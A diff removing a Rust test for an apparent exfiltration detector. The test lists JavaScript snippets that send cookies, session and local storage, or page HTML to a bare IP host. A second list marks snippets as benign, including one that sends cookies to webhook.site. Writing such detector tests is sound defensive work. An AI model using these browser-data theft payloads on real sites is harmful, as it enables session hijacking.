@@ -164,31 +164,3 @@ fn a_shell_is_tied_to_a_socket() {
         ],
     );
 }
-
-#[test]
-fn what_a_browser_keeps_for_a_page_goes_to_a_nameless_host() {
-    all_are(
-        JavaScript,
-        Rule::VariableSent,
-        &[
-            "fetch('http://203.0.113.156/r?'+encodeURIComponent(btoa(document.documentElement.innerHTML+JSON.stringify(sessionStorage))))",
-            "new Image().src = 'http://203.0.113.9/c?' + document.cookie",
-            "const i = document.createElement('img');\ni.src = `http://203.0.113.9/${encodeURIComponent(document.cookie)}`;",
-            "navigator.sendBeacon('http://203.0.113.9/s', JSON.stringify(window.localStorage))",
-            "location.href = 'http://203.0.113.9/?c=' + document.cookie",
-            "const x = new XMLHttpRequest();\nx.open('POST', 'http://203.0.113.9/x');\nx.send(document.cookie);",
-        ],
-    );
-    all_are_honest(
-        JavaScript,
-        &[
-            "fetch('https://api.vendor.example/me', { headers: { 'X-CSRF': document.cookie } })",
-            "fetch('http://203.0.113.9/api', { headers: { Authorization: 'Bearer ' + localStorage.getItem('token') } })",
-            "localStorage.setItem('theme', 'dark');\nfetch('http://203.0.113.9/api/themes').then(r => r.json()).then(show)",
-            "new Image().src = 'https://stats.vendor.example/p?u=' + encodeURIComponent(location.pathname)",
-            "new Image().src = 'https://webhook.site/x?c=' + document.cookie",
-            "fetch('/api/sync', { method: 'POST', body: JSON.stringify(localStorage) })",
-            "fetch('http://localhost:3000/sync', { method: 'POST', body: document.cookie })",
-        ],
-    );
-}
